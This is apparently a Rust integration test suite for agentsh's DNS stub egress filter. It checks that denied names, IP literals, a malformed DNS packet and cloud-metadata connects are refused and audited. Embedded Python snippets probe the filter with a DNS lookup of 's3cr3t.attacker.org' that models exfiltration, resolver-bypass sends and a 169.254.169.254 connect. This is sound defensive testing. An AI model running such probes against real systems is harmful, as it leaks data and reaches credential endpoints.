//! Egress by name (issue 22): with `egress.dns: stub` every DNS query of a
//! tree is answered by agentsh's stub, which refuses names no rule could
//! allow (the query never leaves the machine) and binds the addresses of an
//! allowed answer to the name for that tree, so `hosts` rules match the
//! tree's later connect. The attacks, on the real kernel, as root and as
//! nobody, at the kernel's Landlock ABI and at `max_abi: 2`:
//! * `dig` of a denied name (UDP and TCP), to the stub and to another
//!   resolver: the upstream's query log stays empty of it;
//! * a connect to an address no name bound (an IP literal), and to an
//!   allowed name's address from a tree that never resolved it;
//! * a malformed packet to the stub: refused, audited, the stub serves on.
//!
//! The upstream is the test's own resolver on 127.0.0.1 (UDP and TCP),
//! which logs every name it is asked; "never reached the upstream" is read
//! from that log after a later allowed query has been answered (one
//! upstream socket per protocol, queries in order), never from a wait.

// Test code: a failed unwrap is a failed test.
#![allow(clippy::unwrap_used)]

use agentsh_tests::dns::Upstream;
use agentsh_tests::sandbox::{Sandbox, AGENT_STRICT, NOBODY};
use agentsh_tests::server::{require_root, unique_loopback};
use serde_json::Value;
use std::net::{Ipv4Addr, TcpListener};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

/// What the test's upstream answers for `*.allowed.test`.
const BOUND: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 3);
/// An address no name resolves to.
const LITERAL: &str = "127.0.0.4";

/// A TCP listener on every loopback address that counts connections per
/// local address.
struct Counter {
    port: u16,
    by_ip: Arc<Mutex<Vec<String>>>,
    n: Arc<AtomicUsize>,
}

impl Counter {
    fn start() -> Counter {
        let l = TcpListener::bind((Ipv4Addr::UNSPECIFIED, 0)).unwrap();
        let port = l.local_addr().unwrap().port();
        let by_ip = Arc::new(Mutex::new(Vec::new()));
        let n = Arc::new(AtomicUsize::new(0));
        let (log, count) = (by_ip.clone(), n.clone());
        std::thread::spawn(move || {
            for s in l.incoming().flatten() {
                if let Ok(a) = s.local_addr() {
                    log.lock().unwrap().push(a.ip().to_string());
                }
                count.fetch_add(1, Ordering::SeqCst);
            }
        });
        Counter { port, by_ip, n }
    }

    /// Every connection so far, once our own last one to 127.0.0.1 has
    /// been taken (connections reach one listening socket in order).
    fn settled(&self) -> Vec<String> {
        let before = self.n.load(Ordering::SeqCst);
        let _c = std::net::TcpStream::connect(("127.0.0.1", self.port)).unwrap();
        let end = std::time::Instant::now() + std::time::Duration::from_secs(120);
        while self.n.load(Ordering::SeqCst) <= before {
            assert!(
                std::time::Instant::now() < end,
                "our connection never arrived"
            );
            std::thread::sleep(std::time::Duration::from_millis(5));
        }
        let mut v = self.by_ip.lock().unwrap().clone();
        v.pop();
        v
    }
}

/// agent-strict, its TCP floor opened for `port`, egress by name only.
fn policy(port: u16) -> String {
    let floor = "    ports: [443]\n    direction: connect\n";
    assert!(
        AGENT_STRICT.contains(floor),
        "agent-strict's https-only rule"
    );
    let p = AGENT_STRICT.replacen(
        floor,
        &format!("    ports: [443, {port}]\n    direction: connect\n"),
        1,
    );
    let shipped = "\negress:\n  default: deny\n";
    assert!(
        p.contains(shipped),
        "agent-strict ships egress default deny"
    );
    p.replacen(
        shipped,
        &format!(
            "{shipped}  dns: stub\n  rules:\n    - name: test-names\n      hosts: [\"*.allowed.test\"]\n      ports: [{port}]\n      decision: allow\n"
        ),
        1,
    )
}

fn events_of(s: &Sandbox, kind: &str) -> Vec<Value> {
    s.events()
        .into_iter()
        .filter(|e| e["type"] == kind)
        .collect()
}

fn ok(s: &mut Sandbox, script: &str) -> String {
    let r = s.sh(script);
    assert_eq!(
        r.code,
        Some(0),
        "{script}: {}{}\nserver log:\n{}",
        r.stdout,
        r.stderr,
        s.srv.log()
    );
    r.stdout
}

/// The test's upstream resolver, its connection counter, a stub address of
/// its own, and the server config that joins them (and `extra`).
struct World {
    up: Upstream,
    counter: Counter,
    stub: Ipv4Addr,
    config: String,
}

impl World {
    fn start(extra: &str) -> World {
        let up = Upstream::start(".allowed.test", BOUND);
        let stub = unique_loopback();
        let config = format!(
            "egress:\n  stub: \"{stub}:53\"\n  resolvers: [\"127.0.0.1:{}\"]\n{extra}",
            up.port
        );
        World {
            up,
            counter: Counter::start(),
            stub,
            config,
        }
    }
}

/// `resolv` names the stub, or another resolver (whose queries are sent to
/// the stub).
fn scenario(uid: Option<u32>, extra: &str, resolv_names_stub: bool) {
    if !require_root("egress_dns") {
        return;
    }
    let World {
        up,
        counter,
        stub,
        config,
    } = World::start(extra);
    let mut s = Sandbox::with_config(&policy(counter.port), uid, &config);
    let resolver = if resolv_names_stub {
        stub.to_string()
    } else {
        "10.254.0.53".to_string()
    };
    std::fs::write(
        s.host_path("/etc/resolv.conf"),
        format!("nameserver {resolver}\noptions timeout:5 attempts:1\n"),
    )
    .unwrap();
    let port = counter.port;

    // A denied name, over UDP (dig) and over TCP (python: agent-strict's
    // Landlock bind rule refuses dig's bind before its TCP connect), to
    // the resolver the tree names: REFUSED by the stub.
    let out = ok(
        &mut s,
        &format!("out=$(dig +tries=1 +time=10 @{stub} x.denied.test A 2>&1); echo \"$out\" >&2; echo \"$out\" | grep -c 'status: REFUSED'"),
    );
    assert_eq!(out.trim(), "1", "dig of a denied name: {out}");
    let out = ok(
        &mut s,
        &format!("python3 -c '\nimport socket, struct\nq = bytes.fromhex(\"abcd01000001000000000000\") + b\"\\x05x-tcp\\x06denied\\x04test\\x00\\x00\\x01\\x00\\x01\"\nc = socket.create_connection((\"{stub}\", 53), timeout=30)\nc.sendall(struct.pack(\">H\", len(q)) + q)\nr = c.recv(2)\nr = c.recv(struct.unpack(\">H\", r)[0])\nprint(r[3] & 15)'"),
    );
    assert_eq!(out.trim(), "5", "TCP query of a denied name: rcode {out}");
    // The same over UDP to a resolver of the tree's choosing, its sockaddr's
    // family AF_UNSPEC (which IPv4 UDP sends as AF_INET): sent to the stub
    // too, never to that resolver.
    let out = ok(
        &mut s,
        "python3 -c '\nimport ctypes, socket, struct\nlibc = ctypes.CDLL(None, use_errno=True)\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(30)\nq = bytes.fromhex(\"abcd01000001000000000000\") + b\"\\x08u-unspec\\x06denied\\x04test\\x00\\x00\\x01\\x00\\x01\"\naddr = struct.pack(\"=H\", 0) + struct.pack(\"!H\", 53) + socket.inet_aton(\"10.254.0.53\") + bytes(8)\nif libc.sendto(s.fileno(), q, len(q), 0, addr, len(addr)) < 0:\n  print(\"refused\", ctypes.get_errno())\nelse:\n  try:\n    print(s.recv(512)[3] & 15)\n  except socket.timeout:\n    print(\"no answer\")'",
    );
    assert_eq!(
        out.trim(),
        "5",
        "AF_UNSPEC query of a denied name: rcode {out}"
    );
    // An allowed name resolves through the tree's own resolver (glibc) and
    // its address is reached; the same address as a literal, from a tree
    // that never resolved the name, and another literal are refused.
    let script = format!(
        "python3 -c '\nimport socket\nip = socket.getaddrinfo(\"pkg.allowed.test\", {port}, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]\nprint(ip)\nsocket.create_connection((ip, {port}), timeout=30).close()\nprint(\"connected\")'"
    );
    let out = ok(&mut s, &script);
    assert_eq!(out.trim(), format!("{BOUND}\nconnected"), "{out}");
    for literal in [BOUND.to_string(), LITERAL.to_string()] {
        let r = s.sh(&format!(
            "python3 -c '\nimport socket\ntry:\n  socket.create_connection((\"{literal}\", {port}), timeout=30)\n  print(\"connected\")\nexcept OSError as e:\n  print(e.errno)'"
        ));
        assert_eq!(
            r.stdout.trim(),
            libc::EACCES.to_string(),
            "{literal}: {}{}",
            r.stdout,
            r.stderr
        );
    }
    // A malformed packet to the stub: answered FORMERR (or not at all),
    // audited; the stub serves on.
    ok(
        &mut s,
        &format!("python3 -c '\nimport socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b\"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\xc0\", (\"{stub}\", 53))'"),
    );
    let out = ok(
        &mut s,
        &format!("dig +short +tries=1 +time=10 @{stub} last.allowed.test A"),
    );
    assert_eq!(out.trim(), BOUND.to_string(), "the stub serves on: {out}");

    let asked = up.asked();
    assert!(
        asked.iter().any(|n| n == "last.allowed.test"),
        "the upstream answered the last query: {asked:?}"
    );
    assert!(
        !asked.iter().any(|n| n.contains("denied")),
        "a denied name reached the upstream: {asked:?}"
    );
    let reached = counter.settled();
    assert_eq!(
        reached,
        vec![BOUND.to_string()],
        "exactly one connection (the resolved name's) arrived"
    );

    let dns = events_of(&s, "dns");
    let refused: Vec<&Value> = dns.iter().filter(|e| e["decision"] == "deny").collect();
    for name in ["x.denied.test", "x-tcp.denied.test", "u-unspec.denied.test"] {
        assert_eq!(
            refused.iter().filter(|e| e["name"] == name).count(),
            1,
            "one refusal event for {name}: {dns:?}"
        );
    }
    assert!(
        refused.iter().any(|e| e["rule"] == "dns_malformed"),
        "the malformed packet is audited: {dns:?}"
    );
    let pkg: Vec<&Value> = dns
        .iter()
        .filter(|e| e["name"] == "pkg.allowed.test")
        .collect();
    assert!(
        pkg.iter().any(|e| e["decision"] == "allow"
            && e["rule"] == "test-names"
            && e["answers"][0] == BOUND.to_string()),
        "{dns:?}"
    );
    let connects = events_of(&s, "connect");
    let to_bound: Vec<&Value> = connects
        .iter()
        .filter(|e| e["ip"] == BOUND.to_string() && e["port"] == port)
        .collect();
    assert_eq!(to_bound.len(), 2, "two trees, one event each: {connects:?}");
    assert!(
        to_bound.iter().any(|e| e["decision"] == "allow"
            && e["host"] == "pkg.allowed.test"
            && e["rule"] == "test-names"),
        "{to_bound:?}"
    );
    assert!(
        to_bound
            .iter()
            .any(|e| e["decision"] == "deny" && e["rule"] == "default" && e["host"].is_null()),
        "{to_bound:?}"
    );
}

#[test]
fn names_decide_as_root() {
    scenario(None, "", true);
}

#[test]
fn names_decide_as_nobody() {
    scenario(Some(NOBODY), "", true);
}

#[test]
fn names_decide_at_landlock_abi_2() {
    scenario(Some(NOBODY), "landlock:\n  max_abi: 2\n", true);
}

#[test]
fn queries_to_another_resolver_go_to_the_stub() {
    scenario(None, "", false);
}

#[test]
fn names_decide_under_the_ptrace_backend() {
    scenario(None, "execve:\n  backend: ptrace\n", true);
}

/// The shipped agent-default, unchanged: a registry's name resolves and
/// its address is allowed (rule `package-registries`); a name no rule
/// names is refused by the stub and never reaches the upstream (with an
/// `approve` default the lookup itself would be the leak); cloud metadata
/// is denied; an address no rule names (an IP literal, a datagram to
/// loopback: local dev servers are TCP only) waits for an operator and,
/// unanswered, fails with EACCES. One event each.
fn shipped_agent_default(uid: Option<u32>) {
    if !require_root("shipped_agent_default") {
        return;
    }
    // TEST-NET-1: not reachable, and not loopback (which agent-default
    // allows over TCP whatever the name).
    let registry = Ipv4Addr::new(192, 0, 2, 7);
    let up = Upstream::start(".org", registry);
    let stub = unique_loopback();
    let config = format!(
        "egress:\n  stub: \"{stub}:53\"\n  resolvers: [\"127.0.0.1:{}\"]\nexecve:\n  approval_timeout: 2s\n",
        up.port
    );
    let mut s = Sandbox::with_config(agentsh_tests::sandbox::AGENT_DEFAULT, uid, &config);
    std::fs::write(
        s.host_path("/etc/resolv.conf"),
        format!("nameserver {stub}\noptions timeout:5 attempts:1\n"),
    )
    .unwrap();
    // A non-blocking connect answers at once: EINPROGRESS (or the
    // network's own refusal) when allowed, EACCES when refused.
    let out = ok(
        &mut s,
        "python3 -c '
import socket
def nb(ip, port):
    s = socket.socket()
    s.setblocking(False)
    return s.connect_ex((ip, port))
ip = socket.getaddrinfo(\"pypi.org\", 443, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
print(\"registry\", ip, nb(ip, 443))
try:
    socket.getaddrinfo(\"s3cr3t.attacker.org\", 443, socket.AF_INET, socket.SOCK_STREAM)
    print(\"leak resolved\")
except socket.gaierror:
    print(\"leak refused\")
print(\"metadata\", nb(\"169.254.169.254\", 80))
print(\"literal\", nb(\"192.0.2.8\", 443))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b\"x\", (\"127.0.0.1\", 9))
    print(\"udp sent\")
except OSError as e:
    print(\"udp\", e.errno)
'",
    );
    let lines: Vec<&str> = out.lines().collect();
    let field = |k: &str| -> String {
        lines
            .iter()
            .find(|l| l.starts_with(k))
            .unwrap_or_else(|| panic!("{k} missing: {out}"))
            .to_string()
    };
    let reg = field("registry ");
    assert!(reg.starts_with(&format!("registry {registry} ")), "{out}");
    assert_ne!(
        reg.rsplit(' ').next(),
        Some(libc::EACCES.to_string().as_str()),
        "the registry's address was refused: {out}"
    );
    assert_eq!(field("leak "), "leak refused", "{out}");
    let eacces = libc::EACCES.to_string();
    assert_eq!(field("metadata "), format!("metadata {eacces}"), "{out}");
    assert_eq!(field("literal "), format!("literal {eacces}"), "{out}");
    assert_eq!(field("udp "), format!("udp {eacces}"), "{out}");
    // The refused name never left: the upstream was asked for pypi.org only.
    let asked = up.asked();
    assert!(asked.iter().any(|n| n == "pypi.org"), "{asked:?}");
    assert!(!asked.iter().any(|n| n.contains("attacker")), "{asked:?}");

    let dns = events_of(&s, "dns");
    assert!(
        dns.iter()
            .any(|e| e["name"] == "s3cr3t.attacker.org" && e["decision"] == "deny"),
        "{dns:?}"
    );
    let connects = events_of(&s, "connect");
    let one = |ip: &str, port: u16| -> Vec<&Value> {
        connects
            .iter()
            .filter(|e| e["ip"] == ip && e["port"] == port)
            .collect()
    };
    let r = one(&registry.to_string(), 443);
    assert!(
        r.len() == 1
            && r[0]["decision"] == "allow"
            && r[0]["rule"] == "package-registries"
            && r[0]["host"] == "pypi.org",
        "{connects:?}"
    );
    let m = one("169.254.169.254", 80);
    assert!(
        m.len() == 1 && m[0]["decision"] == "deny" && m[0]["rule"] == "no-cloud-metadata",
        "{connects:?}"
    );
    for (ip, port, protocol) in [("192.0.2.8", 443, "tcp"), ("127.0.0.1", 9, "udp")] {
        let e = one(ip, port);
        assert!(
            e.len() == 1
                && e[0]["protocol"] == protocol
                && e[0]["rule"] == "default"
                && e[0]["decision"] == "approve"
                && e[0]["approval_outcome"] == "timeout"
                && e[0]["effective_action"] == "deny",
            "{ip}:{port}: {connects:?}"
        );
    }
}

#[test]
fn shipped_agent_default_allows_registries_by_name_and_asks_for_the_rest() {
    shipped_agent_default(None);
}

#[test]
fn shipped_agent_default_allows_registries_by_name_as_nobody() {
    shipped_agent_default(Some(NOBODY));
}

/// Two sandboxes sharing a network namespace (runsc with host networking;
/// here, this machine's), both configured with the same stub address: the
/// second finds it taken and listens on another port of it; each tree's
/// lookup is answered by its own server's stub (its audit has it), under
/// notify and under the ptrace backend (issue 59).
fn two_stubs_one_address(extra: &str) {
    if !require_root("two_stubs_one_address") {
        return;
    }
    let World {
        // Kept until the end: it answers the stubs.
        up: _up,
        counter,
        stub,
        config,
    } = World::start(extra);
    let mut first = Sandbox::with_config(&policy(counter.port), None, &config);
    let mut second = Sandbox::with_config(&policy(counter.port), None, &config);
    assert!(
        second.srv.log().contains("listening on") && second.srv.log().contains("instead"),
        "the second stub did not move:\n{}",
        second.srv.log()
    );
    for (which, s) in [("first", &mut first), ("second", &mut second)] {
        std::fs::write(
            s.host_path("/etc/resolv.conf"),
            format!("nameserver {stub}\noptions timeout:5 attempts:1\n"),
        )
        .unwrap();
        let name = format!("{which}.allowed.test");
        let out = ok(s, &format!("dig +short +tries=1 +time=10 @{stub} {name} A"));
        assert_eq!(out.trim(), BOUND.to_string(), "{which}: {out}");
        let dns = events_of(s, "dns");
        assert!(
            dns.iter().any(|e| e["name"] == name.as_str()),
            "{which}: its own stub did not answer: {dns:?}\n{}",
            s.srv.log()
        );
    }
}

#[test]
fn two_sandboxes_sharing_a_network_namespace_each_have_a_stub() {
    two_stubs_one_address("");
}

#[test]
fn two_sandboxes_sharing_a_network_namespace_each_have_a_stub_under_ptrace() {
    two_stubs_one_address("execve:\n  backend: ptrace\n");
}
